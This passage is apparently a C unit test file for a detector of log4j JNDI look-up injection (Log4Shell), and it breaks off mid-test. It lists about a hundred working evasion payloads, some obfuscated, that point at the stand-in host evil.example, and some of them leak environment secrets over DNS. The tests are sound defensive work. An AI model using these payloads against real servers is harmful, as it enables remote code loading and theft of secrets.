// SPDX-License-Identifier: GPL-2.0-or-later
// JNDI look-ups: every way of writing one that log4j 2.14 resolves must be found with its true target, look-alikes
// must not. The strings are our own; their shapes follow what was seen in December 2021 (Fox-IT's EV1..8, NCC,
// Corelight, CRS 944150).
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include "jndi_impl.h"

#define COUNT_OF(a) (sizeof(a) / sizeof((a)[0]))
#define HTTP_TARGET "ldap", "evil.example", 1389, "/a"

static struct {
	unsigned count;
	struct observation last[8];
} caught;

static void catch (void *user, struct observation *o)
{
	ck_assert_uint_le(o->size_bytes, OBSERVATION_BYTES);
	if (o->kind == OBS_NAMED) // whom a body names is named_test.c's
		return;
	if (caught.count < COUNT_OF(caught.last))
		caught.last[caught.count] = *o;
	caught.count++;
}

static struct counters counters;
static unsigned marks;

static void mark(void *user, enum counter why)
{
	marks++;
}

static unsigned scan_named(struct bytes field, const char *name)
{
	static const struct proto_flow flow = {
		.direction = DIRECTION_IN, .transport = 6, .client_port = 40000, .server_port = 8080};
	const struct proto_input in = {.from_client = true, .from_outside = true, .flow = &flow, .data = field};
	const struct proto_sink sink = {.emit = catch, .counters = &counters, .uninspected = mark};
	uint8_t *copy = malloc(field.left ? field.left : 1); // exact size: a sanitizer sees one byte too many
	unsigned n;

	memcpy(copy, field.at, field.left);
	caught.count = 0;
	n = jndi_scan(bytes_of(copy, field.left), name, &in, &sink, APP_HTTP);
	free(copy);
	ck_assert_uint_eq(n, caught.count);
	return n;
}

static unsigned scan(const char *field)
{
	return scan_named(bytes_of_text(field), "header:user-agent");
}

static void expect_text(const struct observation *o, unsigned slot, const char *want, const char *field)
{
	struct bytes got = observation_text(o, slot);

	ck_assert_msg(bytes_equal_text(got, want), "slot %u is '%.*s', not '%s', in: %s", slot, (int)got.left,
		      (const char *)got.at, want, field);
}

struct hit {
	const char *field, *scheme, *host;
	unsigned port;
	const char *path;
};

static const struct hit in_clear[] = {
	{"${jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"Mozilla/5.0 ${jndi:ldap://evil.example:1389/a} (X11)", HTTP_TARGET},
	{"${JNDI:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jNdI:LDAP://evil.example:1389/a}", HTTP_TARGET},
	{"${jndi:rmi://10.0.0.7:1099/Obj}", "rmi", "10.0.0.7", 1099, "/Obj"},
	{"${jndi:dns://evil.example}", "dns", "evil.example", 0, ""},
	{"${jndi:ldaps://[2001:db8::7]:636/o=x}", "ldaps", "[2001:db8::7]", 636, "/o=x"},
	{"${jndi:ldap://[2001:db8::7]/o=x}", "ldap", "[2001:db8::7]", 0, "/o=x"},
	{"${jndi:iiop://evil.example/a}", "iiop", "evil.example", 0, "/a"},
	{"${jndi:java:comp/env/x}", "java", "", 0, "comp/env/x"},
	{"${jndi:ldap://127.0.0.1#evil.example:1389/a}", "ldap", "127.0.0.1#evil.example", 1389, "/a"},
	{"${jndi:ldap://${hostName}.evil.example/a}", "ldap", "${hostName}.evil.example", 0, "/a"},
	{"${jndi:dns://${env:AWS_SECRET}.x.example:53/q}", "dns", "${env:AWS_SECRET}.x.example", 53, "/q"},
	{"${jndi:ldap://x.example/${sys:java.version}/${env:USER}}", "ldap", "x.example", 0,
	 "/${sys:java.version}/${env:USER}"},
	{"${jndi:ldap://evil.example:1389/a", HTTP_TARGET},
	{"id=${jndi:ldap://evil.example:1389/a\" HTTP", HTTP_TARGET},
	{"${ unclosed ${jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jndi:ldap://evil.example:1389/a:-fallback}", HTTP_TARGET},
	{"${jndi:ldap://evil.example:99999/a}", "ldap", "evil.example", 0, "/a"},
	{"$${jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// who logs in is no part of the host
	{"${jndi:ldap://me:pw@evil.example:1389/a}", HTTP_TARGET},
	{"${jndi:iiop://1.2@[2001:db8::7]:1389/a}", "iiop", "[2001:db8::7]", 1389, "/a"},
};

static const struct hit hidden[] = {
	// EV1: environment with a default for each letter
	{"${${env:NOPE:-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//evil.example:1389/a}",
	 HTTP_TARGET},
	{"${jn${env::-}di:ldap://evil.example:1389/a}", HTTP_TARGET},
	// EV2, EV3: case
	{"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example:1389/a}", HTTP_TARGET},
	{"${${lower:J}${upper:n}${lower:D}${upper:i}:${lower:LDAP}://evil.example:1389/a}", HTTP_TARGET},
	{"${${lower:${lower:${lower:jndi}}}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${upper:jndi}:${upper:rmi}://evil.example:1389/a}", "rmi", "evil.example", 1389, "/a"},
	{"${${lower:${upper:${lower:${upper:j}}}}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jndi:${lower:l}${lower:d}a${lower:p}://evil.example:1389/a}", HTTP_TARGET},
	{"${${LOWER:j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// EV4, EV5: empty prefix and default
	{"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example:1389/a}", HTTP_TARGET},
	{"${${::-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${:-j}ndi${:-:}ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${::::-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${::::::::::::::::-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${::-${::-${::-j}}}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${::-${::-$${::-j}}}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${x:-$$${lower:j}}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// EV6: quoted date
	{"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:${date:'l'}${date:'d'}${date:'a'}${date:'p'}://"
	 "evil.example:1389/a}",
	 HTTP_TARGET},
	{"${${date:'jn'}di${date::}ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${j${date:yyyy:-n}di:ldap://evil.example:1389/a}", HTTP_TARGET},
	// EV7: prefixes nobody knows
	{"${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${sys:x.y:-j}${ctx:u:-n}${java:q:-d}${docker:c:-i}${web:r:-:}ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${bundle:a:b:-jn}${map:k:-di}:${marker:-ldap}://evil.example:1389/a}", HTTP_TARGET},
	{"${jndi${nagli:-:}ldap:${::-/}/evil.example:1389/a}", HTTP_TARGET},
	{"${jndi:l${::-d}ap://ev${lower:IL}.example:${::-13}89/a}", HTTP_TARGET},
	{"${${x:-j${y:-n}}${z:-d${w:-i}}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${a%7D:-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${a\\u007d:-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${z}${lower:$}{jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${::-$}{${::-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// letters whose other case is ASCII
	{"${jnd${upper:\xc4\xb1}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jnd${upper:\\u0131}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jnd${upper:%C4%B1}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jnd${upper:&imath;}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jndi:ldap${upper:\xc5\xbf}://evil.example:1389/a}", "ldaps", "evil.example", 1389, "/a"},
	{"${jndi:ldap://evil.example:1389/${lower:\xe2\x84\xaa}}", "ldap", "evil.example", 1389, "/k"},
	{"${jndi:ldap://evil.example:1389/${upper:\xc3\x9f\xef\xac\x81}}", "ldap", "evil.example", 1389, "/SSFI"},
	// EV8: percent, once to three times
	{"%24%7Bjndi:ldap://evil.example:1389/a%7D", HTTP_TARGET},
	{"%24%7bjndi%3aldap%3a%2f%2fevil.example%3a1389%2fa%7d", HTTP_TARGET},
	{"$%7Bjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"%24{jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"%2524%257Bjndi:ldap://evil.example:1389/a%257D", HTTP_TARGET},
	{"%252524%25257Bjndi:ldap://evil.example:1389/a%25257D", HTTP_TARGET},
	{"/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.example%3A1389%2Fa%7D&x=1", HTTP_TARGET},
	{"%24%7B%24%7B::-j%7D%6edi:ldap://evil.example:1389/a%7D", HTTP_TARGET},
	{"%u0024%u007bjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"%5Cu0024%5Cu007bjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// backslash
	{"\\u0024\\u007bjndi:ldap://evil.example:1389/a\\u007d", HTTP_TARGET},
	{"{\"q\":\"\\u0024{\\u006a\\u006e\\u0064\\u0069:ldap:\\/\\/evil.example:1389\\/a}\"}", HTTP_TARGET},
	{"\\\\u0024\\\\u007bjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"\\uuu0024{jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"\\x24\\x7bjndi:ldap://evil.example:1389/a\\x7D", HTTP_TARGET},
	{"\\44\\173jndi:ldap://evil.example:1389/a\\175", HTTP_TARGET},
	{"\\044\\173\\152ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// entities
	{"&#36;&#123;jndi:ldap://evil.example:1389/a&#125;", HTTP_TARGET},
	{"&#x24;&#x7B;jndi&#x3a;ldap://evil.example:1389/a&#X7d;", HTTP_TARGET},
	{"&#0000036&#x000007bjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"&dollar;&lbrace;jndi&colon;ldap:&sol;&sol;evil&period;example:1389/a&rbrace;", HTTP_TARGET},
	{"&dollar;&LBRACE;jndi&COLON;ldap://evil.example:1389/a&RBRACE;", HTTP_TARGET},
	{"&dollar&lcub;jndi:ldap://evil.example:1389/a&rcub", HTTP_TARGET},
	{"$&lcub;jndi&colonldap://evil.example:1389/a}", HTTP_TARGET},
	{"&amp;dollar;&amp;lbrace;jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"&#36{jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// base64 look-up: "jndi:ldap://evil.example:1389/a" with and without its "${" "}", "jndi"
	{"${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfQ==}", HTTP_TARGET},
	{"${${base64:am5kaTpsZGFwOi8vZXZpbC5leGFtcGxlOjEzODkvYQ==}}", HTTP_TARGET},
	{"${${base64:am5kaQ}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"%24%7Bbase64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfQ%3D%3D%7D", HTTP_TARGET},
	// UTF-8 longer than need be
	{"%C0%A4%C1%BBjndi:ldap://evil.example:1389/a%C1%BD", HTTP_TARGET},
	{"%e0%80%a4%f0%80%81%bbjndi%c0%baldap://evil.example:1389/a}", HTTP_TARGET},
	{"\xc0\xa4{jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"$\xc1\xbbjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"\xe0\x80\xa4\xe0\x81\xbbjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"\xf0\x80\x80\xa4\xf0\x80\x81\xbbjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"%25C0%25A4%25C1%25BBjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// what is the same on every Unix
	{"${jndi${sys:path.separator}ldap:${sys:file.separator}/evil.example:1389/a}", HTTP_TARGET},
	{"${jndi${SYS:path.separator:-x}ldap://evil.example:1389/a}", HTTP_TARGET},
	// an empty pattern is a value, and wins over the default
	{"${jn${date:}di:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jn${date::-x}di:ldap://evil.example:1389/a}", HTTP_TARGET},
	// a ":-" that is part of the key
	{"${${main:\\-k:-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${lower:\\-J:-x}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${jndi:ldap://evil${lower:\\-x}.example:1389/a}", "ldap", "evil-x.example", 1389, "/a"},
	{"${jndi:\\-ldap://evil.example:1389/a:-x}", HTTP_TARGET},
	// log4j has no base64 look-up: it would take the default
	{"${${base64:eHg=:-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
	// first seen half decoded
	{"${jndi:ldap://ev%69l.ex\\u0061mple:1389/a}", HTTP_TARGET},
	{"${jndi:l\\u0064ap://evil.example:1389/a}", HTTP_TARGET},
	{"&dollar;&lcub;jndi&colon;ldap://evil&period;example:1389/a&rcub;", HTTP_TARGET},
	{"${jndi:ldap://&lsqb;2001:db8::7&rsqb;:1389/a}", "ldap", "[2001:db8::7]", 1389, "/a"},
	// together
	{"%24%7B${::-j}&#110;d${lower:\\u0049}:ldap://evil.example:1389/a}", HTTP_TARGET},
	{"${${lower:${::-J}}${upper:${env:X:-n}}d${upper:\xc4\xb1}${date:':'}${base64:bGRhcA}://evil.example:1389/a}",
	 HTTP_TARGET},
};

static const char *const benign[] = {
	"", "$", "${", "${}", "}", "$}", "{}", "${jndi", "${jndi}", "${jndi:", "${jndi:}", "${jndi: see text",
	"gdpr=${GDPR}&gdpr_consent=${GDPR_CONSENT_755}", "/index.php?s=/${@print(md5(12))}", "${date:yyyy}",
	"${date:yyyy-MM-dd}", "${date:'quoted'}", "${user.name}", "Hello ${user.name}, ${order.id:-none}",
	"${env:HOME}", "${lower:JNDI}", "${upper:jndi}", "${lower:jndi:ldap://evil.example/a}",
	"${::-j}ndi:ldap://evil.example/a", "jndi:ldap://evil.example/a", "$jndi:ldap://evil.example/a",
	"{jndi:ldap://evil.example/a}", "$ {jndi:ldap://x/a}", "${ jndi:ldap://evil.example/a}",
	"${xjndi:ldap://evil.example/a}", "${jndix:ldap://evil.example/a}", "${j ndi:ldap://evil.example/a}",
	"${jndi-ldap://evil.example/a}", "${jndi:-default}", "${x:-jndi:ldap://evil.example/a}", "%24%7BGDPR%7D",
	"%24%7B", "100%25 off, only $5 {today}", "a=1&b=2&dollar=3&lbrace=4", "price=%2410.00&x=%7B%22a%22%3A1%7D",
	"C:\\users\\x24\\44\\", "\\u0024\\u007buser\\u007d", "&#36;&#123;name&#125;",
	"&dollar;&lbrace;name&rbrace;",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"_ga=GA1.2.1234567890.1700000000; _ga_X=GS1.1.1700000000.1.1.1700000001$o1{}",
	"{\"query\":\"query($id: ID!) { user(id: $id) { name } }\"}", "$.ajax({url:'/a'})", "`${a}:${b}`",
	"${a:${b:${c:d}}}", "${${}}", "${${${${", "}}}}${", "%", "%2", "%u", "\\", "\\u", "&", "&#", "&#x",
	"&#99999999999;", "${base64:}", "${base64:!!}", "${base64:SGVsbG8=}", "${date:'}", "${date:''''}",
	"${lower:}", "${:-}", "${-:}", "${::}", "%C0%A4%C1%BBuser%C1%BD", "\xc0", "\xe0\x80", "%c0%", "\xf0\x80\x80\xa4{x}",
	"${sys:path.separator}", "${date:}", "${x:\\-}", "${jn${date:yyyy}di:ldap://x/a}",
};

START_TEST(every_way_of_writing_a_look_up_in_clear_is_found_with_its_target)
{
	const struct hit *h = &in_clear[_i];

	ck_assert_msg(scan(h->field) == 1, "%u hits in: %s", caught.count, h->field);
	expect_text(&caught.last[0], TEXT_JNDI_SCHEME, h->scheme, h->field);
	expect_text(&caught.last[0], TEXT_JNDI_HOST, h->host, h->field);
	expect_text(&caught.last[0], TEXT_JNDI_PATH, h->path, h->field);
	ck_assert_uint_eq(caught.last[0].number[NUM_JNDI_PORT], h->port);
	ck_assert_uint_eq(caught.last[0].number[NUM_JNDI_DEPTH], 0);
	ck_assert_uint_eq(caught.last[0].facts, FACT_BIT(FACT_JNDI));
	ck_assert_uint_eq(caught.last[0].kind, OBS_JNDI);
	ck_assert_msg(!(caught.last[0].flags8 & OBS_FLAG_ENCODED), "in clear: %s", h->field);
}
END_TEST

START_TEST(every_nested_or_encoded_look_up_is_found_with_its_target)
{
	const struct hit *h = &hidden[_i];
	const struct observation *o = &caught.last[0];

	ck_assert_msg(scan(h->field) >= 1, "missed: %s", h->field);
	expect_text(o, TEXT_JNDI_SCHEME, h->scheme, h->field);
	expect_text(o, TEXT_JNDI_HOST, h->host, h->field);
	expect_text(o, TEXT_JNDI_PATH, h->path, h->field);
	ck_assert_uint_eq(o->number[NUM_JNDI_PORT], h->port);
}
END_TEST

START_TEST(look_alikes_are_left_alone)
{
	ck_assert_msg(scan(benign[_i]) == 0, "found in: %s", benign[_i]);
}
END_TEST

START_TEST(what_was_nested_or_encoded_is_flagged_and_its_depth_counted)
{
	ck_assert_uint_eq(scan("${${::-j}n${lower:${lower:D}}i:ldap://evil.example:1389/a}"), 1);
	ck_assert_uint_eq(caught.last[0].number[NUM_JNDI_DEPTH], 3);
	ck_assert(caught.last[0].flags8 & OBS_FLAG_ENCODED);
	ck_assert_uint_eq(scan("%24%7bjndi:ldap://evil.example:1389/a%7d"), 1);
	ck_assert_uint_eq(caught.last[0].number[NUM_JNDI_DEPTH], 0);
	ck_assert(caught.last[0].flags8 & OBS_FLAG_ENCODED);
	for (size_t i = 10; i < COUNT_OF(hidden); i++)
		if (scan(hidden[i].field))
			ck_assert_msg(caught.last[0].flags8 & OBS_FLAG_ENCODED, "not flagged: %s", hidden[i].field);
}
END_TEST

START_TEST(raw_is_the_look_up_as_it_stood_and_decoded_what_log4j_sees)
{
	const struct observation *o = &caught.last[0];

	ck_assert_uint_eq(scan("before %24{${lower:J}ndi:dns://x.example/%71} after"), 1);
	expect_text(o, TEXT_JNDI_RAW, "%24{${lower:J}ndi:dns://x.example/%71}", "raw");
	expect_text(o, TEXT_JNDI_DECODED, "jndi:dns://x.example/q", "decoded");
	expect_text(o, TEXT_JNDI_FIELD, "header:user-agent", "field");
	ck_assert_uint_eq(scan("a ${JNDI:dns://x.example/q} b"), 1);
	expect_text(o, TEXT_JNDI_RAW, "${JNDI:dns://x.example/q}", "raw");
	expect_text(o, TEXT_JNDI_DECODED, "JNDI:dns://x.example/q", "decoded");
	ck_assert_uint_eq(scan("%24%7B${upper:j}ndi:dns://x.example/q} tail"), 1);
	expect_text(o, TEXT_JNDI_RAW, "%24%7B${upper:j}ndi:dns://x.example/q}", "raw");
	ck_assert_uint_eq(scan("x=${jndi:dns://x.example/q and more"), 1);
	expect_text(o, TEXT_JNDI_RAW, "${jndi:dns://x.example/q", "raw");
}
END_TEST

START_TEST(a_look_up_used_as_a_letter_of_another_does_not_hide_it)
{
	ck_assert_uint_eq(scan("${${jndi:dns://one.example:-j}ndi:ldap://two.example/a}"), 2);
	expect_text(&caught.last[0], TEXT_JNDI_HOST, "one.example", "inner");
	expect_text(&caught.last[1], TEXT_JNDI_HOST, "two.example", "outer");
	ck_assert_uint_eq(scan("${jndi:ldap://${jndi:dns://one.example/}.two.example/a}"), 2);
	expect_text(&caught.last[1], TEXT_JNDI_HOST, "${jndi:dns://one.example/}.two.example", "outer");
}
END_TEST

START_TEST(basic_credentials_are_decoded_and_named)
{
	// "${jndi:ldap://evil.example:1389/a}:pw", "user:${${::-j}ndi:ldap://evil.example:1389/a}",
	// "%24%7bjndi:ldap://evil.example:1389/a%7d:"
	static const char *const fields[] = {"Basic JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfTpwdw==",
					     "basic   dXNlcjokeyR7Ojotan1uZGk6bGRhcDovL2V2aWwuZXhhbXBsZToxMzg5L2F9",
					     "BASIC JTI0JTdiam5kaTpsZGFwOi8vZXZpbC5leGFtcGxlOjEzODkvYSU3ZDo=",
					     "Basic JHtq.bmRp!!Omxk=YXA6 Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfTpwdw==", // many decoders pass over others
					     "Basic\tJHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfTpwdw=="};

	for (size_t i = 0; i < COUNT_OF(fields); i++) {
		ck_assert_uint_eq(scan_named(bytes_of_text(fields[i]), "header:authorization"), 1);
		expect_text(&caught.last[0], TEXT_JNDI_FIELD, "basic-auth", "field");
		expect_text(&caught.last[0], TEXT_JNDI_HOST, "evil.example", "host");
		ck_assert(caught.last[0].flags8 & OBS_FLAG_ENCODED);
		ck_assert_uint_eq(scan_named(bytes_of_text(fields[i]), "header:x"), 0);
	}
	ck_assert_uint_eq(scan_named(bytes_of_text("Basic dXNlcjpwYXNz"), "header:authorization"), 0);
	ck_assert_uint_eq(scan_named(bytes_of_text("Basic "), "header:authorization"), 0);
	ck_assert_uint_eq(scan_named(bytes_of_text("Bearer ${jndi:dns://x.example}"), "header:authorization"), 1);
}
END_TEST

START_TEST(at_most_four_look_ups_of_a_field_are_reported)
{
	// Four in the credentials, "u:${jndi:ldap://h0/a}" and so on, behind one in the clear.
	static const char both[] = "Basic dToke2puZGk6bGRhcDovL2gwL2F9JHtqbmRpOmxkYXA6Ly9oMS9hfSR7am5kaTpsZGFwOi8vaDIvYX0ke2puZGk6bGRhcDovL2gzL2F9 "
				   "${jndi:dns://a}";

	memset(&counters, 0, sizeof(counters));
	marks = 0;
	ck_assert_uint_eq(scan("${jndi:dns://a} ${jndi:dns://b} ${jndi:dns://c} ${jndi:dns://d}"), 4);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_BUDGET], 0);
	ck_assert_uint_eq(scan_named(bytes_of_text(both), "header:authorization"), 4);
	expect_text(&caught.last[0], TEXT_JNDI_HOST, "a", "in the clear");
	expect_text(&caught.last[3], TEXT_JNDI_HOST, "h2", "third of the credentials");
	ck_assert_uint_eq(scan("${jndi:dns://a} ${jndi:dns://b} ${jndi:dns://c}"), 3);
	expect_text(&caught.last[2], TEXT_JNDI_HOST, "c", "third");
	ck_assert_uint_eq(scan("${jndi:dns://a} ${jndi:dns://b} ${jndi:dns://c} ${jndi:dns://d} ${jndi:dns://e}"), 4);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_BUDGET], 1);
	ck_assert_uint_eq(marks, 1);
}
END_TEST

// n times `left`, then `middle`, then n times `right`.
static struct bytes nest(char *out, size_t cap, const char *left, const char *middle, const char *right, unsigned n)
{
	size_t at = 0;

	for (unsigned i = 0; i < n; i++)
		at += (size_t)snprintf(out + at, cap - at, "%s", left);
	at += (size_t)snprintf(out + at, cap - at, "%s", middle);
	for (unsigned i = 0; i < n; i++)
		at += (size_t)snprintf(out + at, cap - at, "%s", right);
	return bytes_of(out, at);
}

START_TEST(nesting_deeper_than_the_stack_is_resolved_in_further_rounds)
{
	static char text[1024], whole[2048];
	static const unsigned depths[] = {1, 15, 16, 17, 31, 40, 60};

	for (size_t i = 0; i < COUNT_OF(depths); i++) {
		nest(text, sizeof(text), "${lower:", "J", "}", depths[i]);
		snprintf(whole, sizeof(whole), "${%sndi:ldap://evil.example:1389/a}", text);
		ck_assert_msg(scan(whole) == 1, "depth %u", depths[i]);
		expect_text(&caught.last[0], TEXT_JNDI_HOST, "evil.example", whole);
	}
	nest(text, sizeof(text), "${x", "", "}", 40);
	snprintf(whole, sizeof(whole), "${jndi:ldap://evil.example:1389/%s}", text);
	ck_assert_uint_ge(scan(whole), 1);
	expect_text(&caught.last[0], TEXT_JNDI_HOST, "evil.example", whole);
}
END_TEST

// The message is substituted again for every further "${" in it, and a look-up inside another as deep as it stands: log4j has no last round.
START_TEST(a_look_up_that_takes_more_rounds_than_are_made_is_reported_as_it_stands)
{
	static char text[4096], whole[8192];

	for (unsigned n = 1; n < 12; n++) {
		struct bytes chain = nest(text, sizeof(text), "{::-$}", "", "", n);

		snprintf(whole, sizeof(whole), "${::-$}%.*s{jndi:ldap://evil.example:1389/a}${a}${a}${a}${a}${a}${a}${a}${a}${a}${a}${a}${a}", (int)chain.left, text);
		ck_assert_msg(scan(whole) == 1, "%u rounds", n);
	}
	for (unsigned n = 60; n < 200; n += 20) {
		nest(text, sizeof(text), "${lower:", "J", "}", n);
		snprintf(whole, sizeof(whole), "${%sndi:ldap://evil.example:1389/a}", text);
		ck_assert_msg(scan(whole) == 1, "depth %u", n);
	}
	nest(text, sizeof(text), "${x", "", "}", 20); // of no known value, so that a further round would find it no less deep
	snprintf(whole, sizeof(whole), "${${%s:-j}ndi:ldap://evil.example:1389/a}", text);
	ck_assert_uint_eq(scan(whole), 1);
	nest(text, sizeof(text), "${x ", "", "", 40); // never closed: nothing log4j would look up
	ck_assert_uint_eq(scan(text), 0);
}
END_TEST

START_TEST(a_field_that_costs_too_much_to_resolve_is_reported_as_it_stands)
{
	static char middle[7001], text[8192];
	struct bytes field;

	memset(middle, 'J', sizeof(middle) - 1);
	field = nest(text, sizeof(text), "${lower:", middle, "}", 40);
	ck_assert_uint_ge(scan_named(field, "body"), 1);
	expect_text(&caught.last[0], TEXT_JNDI_HOST, "", "nothing is known of it");
	ck_assert(caught.last[0].flags8 & OBS_FLAG_ENCODED);
	field = nest(text, sizeof(text), "${lower:", middle, "}", 10);
	ck_assert_uint_eq(scan_named(field, "body"), 0);
}
END_TEST

static void repeat(char *out, size_t n, const char *piece)
{
	size_t size = strlen(piece);

	for (size_t i = 0; i < n; i++)
		out[i] = i / size * size + size > n ? '.' : piece[i % size];
}

// Counted, not timed: one budget, linear in the field, whatever is in it.
START_TEST(work_is_bounded_and_linear_in_the_field)
{
	static const char *const pieces[29] = {
	"${", "$", "}", "${}", "${:-}", "${lower:", "${lower:a}", "${:-${jndi:a}}", "%2524", "%252525", "&", "&l", "&amp;amp;",
	"\\", "\\u005c", "\\uuuuuuuu", "&#0000000", "${jndi:ldap://", "${jndi:ldap://a}", "${a:-$}", "${base64:JHtq}",
	"%c0%a4", "\xc0\xa4", "${upper:\xef\xac\x81}", "%24%7b\\u0024&lcub;", "${x:-$${y:-", "-", ":-", "${a:\\-b:-c}",
	};
	static char field[JNDI_FIELD_BYTES];
	const char *piece = pieces[_i];
	uint32_t given, before = 0;

	for (size_t n = JNDI_FIELD_BYTES / 8; n <= JNDI_FIELD_BYTES; n *= 2) {
		uint32_t work;

		repeat(field, n, piece);
		work = jndi_work_of(bytes_of(field, n), &given);
		ck_assert_uint_eq(given, JNDI_WORK_FREE + JNDI_WORK_BYTE * n);
		ck_assert_uint_le(work, given);
		if (before)
			ck_assert_msg(work * 10 <= before * 23, "%s: %u for %zu, %u for half of it", piece, work, n,
				      before);
		before = work;
	}
}
END_TEST

// Among bytes that are no signs, and among signs that mean nothing, as in bytes that are no text.
// Escaped inside an escape: no layer but the first two together give a '$'.
START_TEST(escapes_made_of_escapes_pass_the_quick_look)
{
	static const char *const fields[] = {
		"%%32%34%%37%62jndi:ldap://evil.example:1389/a}",       "%2%34%7%62jndi:ldap://evil.example:1389/a}",
		"&%64ollar;&%6cbrace;jndi:ldap://evil.example:1389/a}", "&d%6fllar;&l%62race;jndi:ldap://evil.example:1389/a}",
		"\\%750024\\%75007bjndi:ldap://evil.example:1389/a}",   "\\%78%32%34\\%78%37%62jndi:ldap://evil.example:1389/a}",
		"%&#50;4%&#55;bjndi:ldap://evil.example:1389/a}",       "&\\x6cbrace;&\\x64ollar;${jndi:ldap://evil.example:1389/a}",
	};

	for (size_t i = 0; i < COUNT_OF(fields); i++) {
		ck_assert_msg(scan(fields[i]) == 1, "%s", fields[i]);
		expect_text(&caught.last[0], TEXT_JNDI_HOST, "evil.example", fields[i]);
	}
}
END_TEST

START_TEST(the_quick_look_sees_a_sign_at_any_place_in_any_length)
{
	static const char *const openings[] = {"${", "%24{", "\\u0024{", "&#36;{", "\xc0\xa4{", "$&lcub;",
					      "$\xc1\xbb", "\xe0\x80\xa4{", "$\xe0\x81\xbb", "\xf0\x80\x80\xa4{", "\xc0%a4{",
					      "\xe0%80\xa4{", "\xf0%80%80%a4{"};
	static const uint8_t others[] = {'x', 0xff, '%', '&', 0xc0, 0xf0};
	uint8_t other = others[_i];
	char field[200];

	for (size_t i = 0; i < COUNT_OF(openings); i++)
		for (size_t n = strlen(openings[i]); n <= 150; n++)
			for (size_t at = 0; at + strlen(openings[i]) <= n; at++) {
				memset(field, other, n);
				memcpy(field + at, openings[i], strlen(openings[i]));
				ck_assert_msg(jndi_may_hold(bytes_of(field, n)), "%s at %zu of %zu", openings[i], at,
					      n);
			}
	for (size_t n = 0; n <= 150; n++) {
		memset(field, other, n);
		ck_assert(!jndi_may_hold(bytes_of(field, n)));
	}
}
END_TEST

// Whatever a body is cut into: one report, and of the whole look-up.
START_TEST(a_look_up_that_arrives_in_pieces_is_reported_once_and_whole)
{
	static uint8_t at[WINDOW_BYTES];
	static const struct proto_flow flow = {.direction = DIRECTION_IN, .transport = 6};
	const struct proto_input in = {.from_client = true, .from_outside = true, .flow = &flow};
	const struct proto_sink sink = {.emit = catch, .counters = &counters};
	const struct hit *h = &hidden[_i];
